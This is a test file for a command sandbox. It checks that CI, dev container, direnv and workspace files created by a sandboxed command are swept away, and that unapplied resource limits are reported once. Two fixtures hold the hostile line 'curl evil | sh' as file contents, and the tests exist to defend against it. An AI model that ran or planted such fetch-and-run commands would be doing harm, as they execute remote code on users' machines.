// After a sandboxed command: protected paths it made that the sandbox did not hold beforehand are removed (files) or
// emptied (folders) and reported; what existed before, what a dialog allowed, and ordinary files are left alone.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, realpathSync, rmSync, writeFileSync, mkdirSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { CommandSandbox } from '../../../src/core/sandbox/commandSandbox';
import { DEFAULT_SANDBOX_SETTINGS } from '../../../src/core/sandbox/sandboxSettings';
import { WorkspaceRoots } from '../../../src/core/workspace/workspaceRoots';
import { NodeFileSystem } from '../../../src/node/nodeFileSystem';

test('sweep: new *.code-workspace, CI, dev container and direnv files go; old ones, granted ones and ordinary files stay', async () => {
  const ws = realpathSync(mkdtempSync(path.join(tmpdir(), 'lh-sweep-')));
  try {
    writeFileSync(path.join(ws, 'old.code-workspace'), '{}');
    const fs = new NodeFileSystem();
    const roots = new WorkspaceRoots([{ name: 'ws', path: ws }], fs);
    const sandbox = new CommandSandbox({ settings: () => DEFAULT_SANDBOX_SETTINGS, support: () => ({ available: true, kind: 'bubblewrap' }), hints: { network: '', off: '' } });
    const policy = await sandbox.policy('make', roots, fs, { writable: [path.join(ws, 'granted.code-workspace')] });
    // What the command made meanwhile.
    writeFileSync(path.join(ws, 'evil.code-workspace'), '{"settings":{}}');
    writeFileSync(path.join(ws, '.travis.yml'), 'script: curl evil | sh');
    writeFileSync(path.join(ws, 'granted.code-workspace'), '{}');
    writeFileSync(path.join(ws, 'notes.txt'), 'fine');
    writeFileSync(path.join(ws, '.envrc'), '');
    mkdirSync(path.join(ws, '.github/workflows'), { recursive: true });
    writeFileSync(path.join(ws, '.github/workflows/ci.yml'), 'on: push');
    mkdirSync(path.join(ws, '.github/ISSUE_TEMPLATE'));
    writeFileSync(path.join(ws, '.github/ISSUE_TEMPLATE/bug.md'), 'a bug');
    mkdirSync(path.join(ws, '.devcontainer/features'), { recursive: true });
    writeFileSync(path.join(ws, '.devcontainer/features/x.sh'), 'curl evil | sh');
    mkdirSync(path.join(ws, 'src'));
    const removed = await sandbox.sweep(policy, fs);
    assert.deepEqual(removed.sort(), ['.devcontainer', '.envrc', '.github/workflows', '.travis.yml', 'evil.code-workspace'].map((n) => path.join(ws, n)));
    for (const gone of ['evil.code-workspace', '.travis.yml', '.envrc', '.github/workflows/ci.yml', '.devcontainer/features/x.sh']) assert.equal(existsSync(path.join(ws, gone)), false, gone);
    // Folders are emptied, not removed; what is next to them stays.
    for (const kept of ['old.code-workspace', 'granted.code-workspace', 'notes.txt', 'src', '.github/workflows', '.github/ISSUE_TEMPLATE/bug.md']) assert.equal(existsSync(path.join(ws, kept)), true, kept);
    // A policy this sandbox did not make: nothing to compare with, nothing removed.
    assert.deepEqual(await sandbox.sweep({ ...policy }, fs), []);
  } finally {
    rmSync(ws, { recursive: true, force: true });
  }
});

test('limits the runner cannot apply here are told once, with the first command that has limits', async () => {
  const ws = realpathSync(mkdtempSync(path.join(tmpdir(), 'lh-limits-')));
  try {
    const fs = new NodeFileSystem();
    const roots = new WorkspaceRoots([{ name: 'ws', path: ws }], fs);
    const notices: string[] = [];
    const make = (limits = DEFAULT_SANDBOX_SETTINGS.limits) =>
      new CommandSandbox({
        settings: () => ({ ...DEFAULT_SANDBOX_SETTINGS, ...(limits && { limits }) }),
        support: () => ({ available: true, kind: 'bubblewrap' }),
        hints: { network: '', off: '' },
        limitsMissing: () => 'the kernel does not apply the process limit to root, and no pids cgroup can be made here',
        onNotice: (m) => notices.push(m),
      });
    const sandbox = make();
    const policy = await sandbox.policy('true', roots, fs);
    assert.deepEqual(policy.limits, { maxProcesses: 1024, maxFileSizeMB: 1024, maxMemoryMB: 4096 });
    await sandbox.policy('true', roots, fs);
    assert.deepEqual(notices, ['Sandbox limits: the kernel does not apply the process limit to root, and no pids cgroup can be made here.']);
    // Every limit turned off: nothing to tell.
    await make({ maxProcesses: 0, maxFileSizeMB: 0, maxMemoryMB: 0 }).policy('true', roots, fs);
    assert.equal(notices.length, 1);
  } finally {
    rmSync(ws, { recursive: true, force: true });
  }
});
